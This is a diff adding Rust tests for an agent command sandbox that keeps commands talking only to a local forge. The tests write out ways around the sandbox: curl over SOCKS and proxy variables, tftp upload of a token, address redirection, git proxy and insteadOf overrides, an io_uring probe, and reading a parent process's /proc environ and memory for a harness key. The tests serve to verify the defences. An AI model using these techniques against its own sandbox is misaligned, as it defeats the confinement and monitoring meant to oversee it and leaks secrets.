@@ -1,19 +1,31 @@
 //! Each command reaches only the forge: the exec supervisor checks the
 //! destination of every `connect` and addressed `send*` of the command's
 //! tree against the forge's address and port, whatever port Landlock
-//! allows. Real curl in the raw-api arm; the oracle is loopback listeners
-//! the test owns (another address on the forge's port, another port), which
-//! must see nothing, Landlock on and off.
+//! allows, and no command may make a local socket. Real curl in the raw-api
+//! arm, real git behind the tea arm's tool; the oracles are loopback
+//! listeners the test owns (another address on the forge's port, another
+//! port, a UDP listener, a SOCKS relay's UNIX socket), which must see
+//! nothing, and `strace -f` of the whole run, in which every call that
+//! named an address and succeeded must name the forge. Each technique runs
+//! with every layer, with the supervisor alone (a policy stripped of the
+//! guard's argument and variable rules, Landlock off), and with no layer,
+//! where the listeners must be reached (so the oracle can fail).
 
 #![allow(clippy::panic, clippy::unwrap_used)] // test code reports failures by panicking
 
 mod common;
+mod sandbox_support;
 
 use serde_json::Value;
 use std::io::{Read, Write};
-use std::net::TcpListener;
+use std::net::{TcpListener, UdpSocket};
+use std::os::unix::net::UnixListener;
 use std::path::{Path, PathBuf};
-use std::process::Command;
+use std::process::{Command, Output};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+const STRACE: &str = "/usr/bin/strace";
 
 fn build(root: &Path, forge_port: u16) -> PathBuf {
     common::build_arm("raw-api", &format!("http://127.0.0.1:{forge_port}"), root)
@@ -136,4 +148,438 @@ fn a_harmless_utility_has_no_network_and_no_local_socket() {
         common::text(&o.stderr)
     );
     assert_eq!(forge_seen.load(std::sync::atomic::Ordering::SeqCst), 0);
+}
+
+/// The listeners a technique may try to reach besides the forge, each
+/// counting what reached it.
+struct Elsewhere {
+    other_port: u16,
+    other_port_seen: Arc<AtomicUsize>,
+    other_host_seen: Arc<AtomicUsize>,
+    udp_port: u16,
+    udp_seen: Arc<AtomicUsize>,
+    relay: PathBuf,
+    relay_seen: Arc<AtomicUsize>,
+}
+
+impl Elsewhere {
+    fn open(root: &Path, forge_port: u16) -> Elsewhere {
+        let (other_port, other_port_seen) = serve("127.0.0.1:0");
+        let (_, other_host_seen) = serve(&format!("127.0.0.2:{forge_port}"));
+        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+        let udp_port = udp.local_addr().unwrap().port();
+        let udp_seen = Arc::new(AtomicUsize::new(0));
+        let seen = udp_seen.clone();
+        std::thread::spawn(move || {
+            let mut buf = [0u8; 2048];
+            while udp.recv_from(&mut buf).is_ok() {
+                seen.fetch_add(1, Ordering::SeqCst);
+            }
+        });
+        // A SOCKS relay's socket file: counting connections is enough (a
+        // relay that answered would forward them anywhere).
+        let relay = root.join("relay.sock");
+        let unix = UnixListener::bind(&relay).unwrap();
+        let relay_seen = Arc::new(AtomicUsize::new(0));
+        let seen = relay_seen.clone();
+        std::thread::spawn(move || {
+            for stream in unix.incoming().flatten() {
+                seen.fetch_add(1, Ordering::SeqCst);
+                drop(stream);
+            }
+        });
+        Elsewhere {
+            other_port,
+            other_port_seen,
+            other_host_seen,
+            udp_port,
+            udp_seen,
+            relay,
+            relay_seen,
+        }
+    }
+
+    /// What reached each listener so far, by name.
+    fn reached(&self) -> Vec<(&'static str, usize)> {
+        [
+            ("another port", &self.other_port_seen),
+            ("another address", &self.other_host_seen),
+            ("the UDP listener", &self.udp_seen),
+            ("the UNIX relay", &self.relay_seen),
+        ]
+        .into_iter()
+        .map(|(name, n)| (name, n.load(Ordering::SeqCst)))
+        .filter(|(_, n)| *n > 0)
+        .collect()
+    }
+}
+
+/// The ways around the forge an agent has with curl, each as a line and
+/// the listener it aims at.
+fn curl_techniques(forge_port: u16, e: &Elsewhere) -> Vec<(String, &'static str)> {
+    let sock = e.relay.display();
+    let elsewhere = format!("http://127.0.0.1:{}/api/v1/user", e.other_port);
+    let forge = format!("http://127.0.0.1:{forge_port}/api/v1/user");
+    let udp = e.udp_port;
+    let c = "curl -s -m 3";
+    vec![
+        (
+            format!("{c} --socks5-hostname localhost{sock} {elsewhere}"),
+            "the UNIX relay",
+        ),
+        (
+            format!("{c} --socks5 localhost{sock} {elsewhere}"),
+            "the UNIX relay",
+        ),
+        (
+            format!("{c} --socks4 localhost{sock} {elsewhere}"),
+            "the UNIX relay",
+        ),
+        (
+            format!("{c} --socks4a localhost{sock} {elsewhere}"),
+            "the UNIX relay",
+        ),
+        (
+            format!("{c} --proxy socks5h://localhost{sock} {elsewhere}"),
+            "the UNIX relay",
+        ),
+        (
+            format!("ALL_PROXY=socks5h://localhost{sock} {c} {elsewhere}"),
+            "the UNIX relay",
+        ),
+        (
+            format!("export http_proxy=socks5h://localhost{sock}; {c} {elsewhere}"),
+            "the UNIX relay",
+        ),
+        (
+            format!("{c} tftp://127.0.0.1:{udp}/token"),
+            "the UDP listener",
+        ),
+        (
+            format!("echo net-token-0123 > t; {c} -T t tftp://127.0.0.1:{udp}/up"),
+            "the UDP listener",
+        ),
+        (
+            format!("{c} http://127.0.0.2:{forge_port}/api/v1/user"),
+            "another address",
+        ),
+        (
+            format!("{c} --connect-to ::127.0.0.2: {forge}"),
+            "another address",
+        ),
+        (
+            format!(
+                "{c} --resolve forge.test:{forge_port}:127.0.0.2 http://forge.test:{forge_port}/"
+            ),
+            "another address",
+        ),
+        (format!("{c} {elsewhere}"), "another port"),
+        (
+            format!("{c} dict://127.0.0.1:{}/x", e.other_port),
+            "another port",
+        ),
+    ]
+}
+
+/// How a run is layered.
+#[derive(Clone, Copy, Debug, PartialEq)]
+enum Layers {
+    /// The arm's own policy, Landlock and the supervisor on.
+    All,
+    /// The guard's argument and variable rules stripped, Landlock off.
+    SupervisorAlone,
+    /// Stripped rules, Landlock and the supervisor off.
+    None,
+}
+
+/// The arm's policy without the guard's network rules: the tool's
+/// argument rules and the proxy-variable patterns.
+fn strip_network_rules(arm: &Path, tool: &str) -> PathBuf {
+    let mut policy: Value =
+        serde_json::from_str(&std::fs::read_to_string(arm.join("policy.json")).unwrap()).unwrap();
+    policy["commands"][tool]["deny"] = Value::Array(Vec::new());
+    let deny = policy["env"]["deny"].as_array_mut().unwrap();
+    deny.retain(|d| {
+        !d["pattern"].as_str().unwrap().ends_with("_proxy")
+            && !d["pattern"].as_str().unwrap().ends_with("_PROXY")
+    });
+    let stripped = arm.join("stripped-policy.json");
+    std::fs::write(&stripped, policy.to_string()).unwrap();
+    stripped
+}
+
+/// `line` in the arm's work folder under `strace -f` of the whole run;
+/// the output and the trace's network calls.
+fn run_traced(arm: &Path, line: &str, layers: Layers, policy: &Path) -> (Output, String) {
+    let trace = arm.join("net-trace.out");
+    let mut c = Command::new(STRACE);
+    c.args([
+        "-f",
+        "-qq",
+        "-e",
+        "trace=socket,connect,sendto,sendmsg,sendmmsg",
+        "-o",
+    ])
+    .arg(&trace)
+    .arg(common::guard_sh())
+    .args(["-c", line])
+    .env_clear()
+    .env("LANG", "C.UTF-8")
+    .env("GUARD_SH_POLICY", policy)
+    .current_dir(arm.join("work"));
+    if layers != Layers::All {
+        c.env("GUARD_SH_LANDLOCK", "off");
+    }
+    if layers == Layers::None {
+        c.env("GUARD_SH_SUPERVISOR", "off");
+    }
+    let out = c.output().unwrap();
+    let text = sandbox_support::join_resumed(&std::fs::read_to_string(&trace).unwrap());
+    (out, text)
+}
+
+/// The calls in `trace` that named an address and went through (`= 0`, a
+/// byte count, or a connection under way), other than to the forge and
+/// other than dissolving a connection.
+fn reached_elsewhere(trace: &str, forge_port: u16) -> Vec<String> {
+    let forge = format!("htons({forge_port})");
+    trace
+        .lines()
+        .filter(|l| l.contains("sa_family=") && !l.contains("sa_family=AF_UNSPEC"))
+        .filter(|l| {
+            let result = l.rsplit_once(") = ").map_or("", |(_, r)| r);
+            result.contains("EINPROGRESS") || !result.starts_with('-')
+        })
+        .filter(|l| !(l.contains(&forge) && l.contains("\"127.0.0.1\"")))
+        .map(str::to_string)
+        .collect()
+}
+
+/// The audit records written since `from` records.
+fn records_since(arm: &Path, from: usize) -> Vec<Value> {
+    std::fs::read_to_string(arm.join("audit/audit.jsonl"))
+        .unwrap_or_default()
+        .lines()
+        .skip(from)
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .collect()
+}
+
+fn record_count(arm: &Path) -> usize {
+    std::fs::read_to_string(arm.join("audit/audit.jsonl")).map_or(0, |t| t.lines().count())
+}
+
+/// Each technique in `cases` under `layers`: with a layer on, no listener
+/// but the forge is reached, strace shows no call through to anywhere else,
+/// and the audit records the refusal (the line's verdict, or a refused
+/// `connect`; a local socket fails when made, in the kernel's filter,
+/// before any address exists to record). With no layer, the listener each
+/// technique aims at is reached.
+fn check_techniques(
+    arm: &Path,
+    policy: &Path,
+    forge_port: u16,
+    elsewhere: &Elsewhere,
+    cases: &[(String, &'static str)],
+    layers: Layers,
+) {
+    for (line, target) in cases {
+        let before = record_count(arm);
+        let (out, trace) = run_traced(arm, line, layers, policy);
+        let case = format!("{layers:?}: {line}\nstderr: {}", common::text(&out.stderr));
+        // Each listener keeps counting; wait for a late datagram or accept.
+        std::thread::sleep(std::time::Duration::from_millis(50));
+        let reached = elsewhere.reached();
+        if layers == Layers::None {
+            assert!(
+                reached.iter().any(|(name, _)| name == target),
+                "{case}\nwith no layer the technique should reach {target}: {reached:?}"
+            );
+            for n in [
+                &elsewhere.other_port_seen,
+                &elsewhere.other_host_seen,
+                &elsewhere.udp_seen,
+                &elsewhere.relay_seen,
+            ] {
+                n.store(0, Ordering::SeqCst);
+            }
+            continue;
+        }
+        assert!(reached.is_empty(), "{case}\nreached {reached:?}");
+        let through = reached_elsewhere(&trace, forge_port);
+        assert!(through.is_empty(), "{case}\nstrace: {through:?}");
+        let records = records_since(arm, before);
+        let refused = records
+            .iter()
+            .any(|r| (r["type"] == "verdict" || r["type"] == "connect") && r["allowed"] == false);
+        let local_socket_failed = trace
+            .lines()
+            .any(|l| l.contains("socket(AF_UNIX") && l.contains("EACCES"));
+        assert!(
+            refused || (*target == "the UNIX relay" && local_socket_failed),
+            "{case}\nno refusal recorded: {records:?}"
+        );
+    }
+}
+
+#[test]
+fn no_way_around_the_forge_with_curl_reaches_a_listener() {
+    let root = tempfile::tempdir().unwrap();
+    let (forge_port, _forge_seen) = serve("127.0.0.1:0");
+    let elsewhere = Elsewhere::open(root.path(), forge_port);
+    let arm = build(root.path(), forge_port);
+    let cases = curl_techniques(forge_port, &elsewhere);
+    let own = arm.join("policy.json");
+    let stripped = strip_network_rules(&arm, "curl");
+    check_techniques(&arm, &own, forge_port, &elsewhere, &cases, Layers::All);
+    check_techniques(
+        &arm,
+        &stripped,
+        forge_port,
+        &elsewhere,
+        &cases,
+        Layers::SupervisorAlone,
+    );
+    check_techniques(
+        &arm,
+        &stripped,
+        forge_port,
+        &elsewhere,
+        &cases,
+        Layers::None,
+    );
+}
+
+#[test]
+fn no_way_around_the_forge_with_the_tools_git_reaches_a_listener() {
+    let root = tempfile::tempdir().unwrap();
+    let (forge_port, _forge_seen) = serve("127.0.0.1:0");
+    let elsewhere = Elsewhere::open(root.path(), forge_port);
+    // The tea arm with a tool that runs what it is told (as tea runs git)
+    // and Debian's git as its helper.
+    let stubs = root.path().join("stubs");
+    std::fs::create_dir(&stubs).unwrap();
+    std::fs::copy("/usr/bin/env", stubs.join("tea")).unwrap();
+    std::os::unix::fs::symlink("/usr/bin/git", stubs.join("git")).unwrap();
+    let arm = common::build_arm(
+        "tea",
+        &format!("http://127.0.0.1:{forge_port}"),
+        root.path(),
+    );
+    let other = elsewhere.other_port;
+    let forge = format!("http://127.0.0.1:{forge_port}/o/r.git");
+    let git = "tea git -c http.lowSpeedTime=3 -c http.lowSpeedLimit=1";
+    let cases = vec![
+        // Debian's git 2.39 takes no socket file as its proxy (later ones
+        // do); the filter that refuses curl's local sockets holds for it.
+        (
+            format!("{git} -c http.proxy=socks5h://127.0.0.1:{other} ls-remote {forge}"),
+            "another port",
+        ),
+        (
+            format!("{git} -c http.proxy=http://127.0.0.1:{other} ls-remote {forge}"),
+            "another port",
+        ),
+        (
+            format!(
+                "{git} -c url.http://127.0.0.2:{forge_port}/.insteadOf=http://127.0.0.1:{forge_port}/ ls-remote {forge}"
+            ),
+            "another address",
+        ),
+        (
+            format!("{git} ls-remote http://127.0.0.1:{other}/o/r.git"),
+            "another port",
+        ),
+    ];
+    let own = arm.join("policy.json");
+    check_techniques(&arm, &own, forge_port, &elsewhere, &cases, Layers::All);
+    check_techniques(
+        &arm,
+        &own,
+        forge_port,
+        &elsewhere,
+        &cases,
+        Layers::SupervisorAlone,
+    );
+    check_techniques(&arm, &own, forge_port, &elsewhere, &cases, Layers::None);
+}
+
+/// An io_uring submits `connect` (and `openat`) without a system call the
+/// filter sees, so a command may not make one. The probe is Python's
+/// `ctypes` calling `io_uring_setup(1, params)` directly; without the
+/// supervisor the same probe gets a ring (so the test can fail).
+#[test]
+fn a_command_cannot_make_an_io_uring() {
+    // Debian's (tests/run.sh installs it), not a version manager's shim.
+    let arm = common::test_arm(&[("python3", PathBuf::from("/usr/bin/python3"))], None);
+    let probe = "python3 -c 'import ctypes; l = ctypes.CDLL(None, use_errno=True); \
+                 r = l.syscall(425, 1, ctypes.create_string_buffer(120)); \
+                 print(\"ring\" if r >= 0 else \"errno %d\" % ctypes.get_errno())'";
+    let work = tempfile::tempdir().unwrap();
+    let supervised = common::run_guard(&arm, work.path(), &["-c", probe]);
+    assert_eq!(
+        common::text(&supervised.stdout),
+        format!("errno {}\n", libc::ENOSYS),
+        "{}",
+        common::text(&supervised.stderr)
+    );
+    let unsupervised = common::guard_cmd(&arm, work.path())
+        .env("GUARD_SH_SUPERVISOR", "off")
+        .args(["-c", probe])
+        .output()
+        .unwrap();
+    assert_eq!(
+        common::text(&unsupervised.stdout),
+        "ring\n",
+        "{}",
+        common::text(&unsupervised.stderr)
+    );
+}
+
+/// The harness's secrets: `/proc/PID/environ`, `cmdline` and `mem` of a
+/// process outside the trial (here guard-sh's parent, holding a key it did
+/// not pass on) are closed to a command by its Landlock domain, which
+/// grants reading everywhere but in other processes' `/proc` folders; its
+/// own `/proc/self` and `/proc/cpuinfo` stay readable. Without Landlock
+/// the same line prints the key (so the test can fail).
+#[test]
+fn a_command_cannot_read_the_harness_environment_or_memory() {
+    let root = tempfile::tempdir().unwrap();
+    let (forge_port, _) = serve("127.0.0.1:0");
+    let arm = build(root.path(), forge_port);
+    let line = "cat /proc/$PPID/environ; echo \"environ=$?\"; \
+                cat /proc/$PPID/cmdline; echo \"cmdline=$?\"; \
+                head -c 1 /proc/$PPID/mem; echo \"mem=$?\"; \
+                head -n 1 /proc/self/status; head -c 9 /proc/cpuinfo; echo";
+    for landlock in [true, false] {
+        // The parent stays (a second command after guard-sh) and holds the key.
+        let script = format!(
+            "env -u HARNESS_KEY {} {} -c '{line}'; true",
+            if landlock {
+                ""
+            } else {
+                "GUARD_SH_LANDLOCK=off"
+            },
+            common::guard_sh().display(),
+        );
+        let o = Command::new("/bin/sh")
+            .args(["-c", &script])
+            .env_clear()
+            .env("HARNESS_KEY", "harness-key-0123")
+            .env("GUARD_SH_POLICY", arm.join("policy.json"))
+            .current_dir(arm.join("work"))
+            .output()
+            .unwrap();
+        let stdout = common::text(&o.stdout);
+        let stderr = common::text(&o.stderr);
+        if landlock {
+            assert_eq!(
+                stdout, "environ=1\ncmdline=1\nmem=1\nName:\thead\nprocessor\n",
+                "{stderr}"
+            );
+            assert_eq!(stderr.matches("Permission denied").count(), 3, "{stderr}");
+        } else {
+            assert!(stdout.contains("harness-key-0123"), "{stdout} {stderr}");
+        }
+    }
 }
